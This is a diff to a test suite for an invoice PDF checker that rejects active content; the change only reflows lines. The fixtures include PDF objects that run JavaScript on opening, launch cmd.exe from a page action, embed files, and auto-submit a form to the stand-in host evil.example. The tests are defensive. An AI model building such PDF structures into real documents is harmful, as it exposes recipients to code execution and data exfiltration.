@@ -26,11 +26,32 @@ describe('invoice PDFs must be documents, not programs (issue 7)', () => {
   it.each([
     ['a script run on opening', SCRIPTED_PDF],
     ['the same with hex-escaped names', ESCAPED_SCRIPT_PDF],
-    ['a script inside a compressed object stream', objectStreamPdf('<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>')],
-    ['a program launched from a page action', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>'])],
-    ['an embedded file', pdfOf(['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>', '<< /Type /Pages /Kids [] /Count 0 >>', '<< >>', '<< /Names [] >>'])],
+    [
+      'a script inside a compressed object stream',
+      objectStreamPdf('<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>'),
+    ],
+    [
+      'a program launched from a page action',
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>',
+      ]),
+    ],
+    [
+      'an embedded file',
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>',
+        '<< /Type /Pages /Kids [] /Count 0 >>',
+        '<< >>',
+        '<< /Names [] >>',
+      ]),
+    ],
     ['an XFA form', pdfOf(['<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>', '<< >>'])],
-    ['a form that submits itself', pdfOf(['<< /Type /Catalog /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>'])],
+    [
+      'a form that submits itself',
+      pdfOf(['<< /Type /Catalog /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>']),
+    ],
   ])('refuses %s as active', (_case, pdf) => {
     expect(checkPdf(pdf)).toBe('active');
   });
@@ -38,7 +59,10 @@ describe('invoice PDFs must be documents, not programs (issue 7)', () => {
   it.each([
     ['an encrypted PDF', ENCRYPTED_PDF],
     ['an object stream under another filter', objectStreamPdf('<< /S /JavaScript >>', 'lzw')],
-    ['a corrupt object stream', pdfOf(['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nnope\nendstream'])],
+    [
+      'a corrupt object stream',
+      pdfOf(['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nnope\nendstream']),
+    ],
   ])('refuses %s as uncheckable', (_case, pdf) => {
     expect(checkPdf(pdf)).toBe('uncheckable');
   });
